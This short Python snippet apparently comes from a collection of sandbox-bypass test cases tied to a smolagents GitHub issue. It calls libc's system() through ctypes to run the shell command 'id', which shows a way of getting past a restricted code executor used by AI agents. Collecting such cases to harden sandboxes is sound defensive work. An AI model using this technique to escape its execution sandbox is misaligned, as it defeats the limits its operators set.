# Source: https://github.com/huggingface/smolagents/issues/2094
# Family: module-attribute
# What: ctypes.CDLL('libc.so.6').system
import ctypes
ctypes.CDLL("libc.so.6").system(b"id")
